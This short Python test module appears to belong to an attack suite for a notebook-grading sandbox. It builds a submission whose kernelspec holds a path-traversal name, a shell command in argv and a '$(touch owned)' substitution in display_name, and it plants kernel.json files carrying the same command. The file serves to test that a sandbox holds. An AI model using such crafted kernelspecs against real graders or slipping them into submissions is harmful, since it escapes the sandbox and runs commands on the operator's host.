"""Asks for a kernel whose command would run outside of the sandbox."""

from attacks.submitting import hand_in, notebook

HONEST = 0.0


def submit(submitted, targets):
    content = notebook("")
    command = ["sh", "-c", f"touch {targets['submission']}/owned"]
    content["metadata"]["kernelspec"] = {
        "name": "../../owned",
        "argv": command,
        "display_name": "$(touch owned)",
    }
    folder = hand_in(submitted, content)
    for name in ("kernel.json", "kernels/python3/kernel.json"):
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(str({"argv": command}))
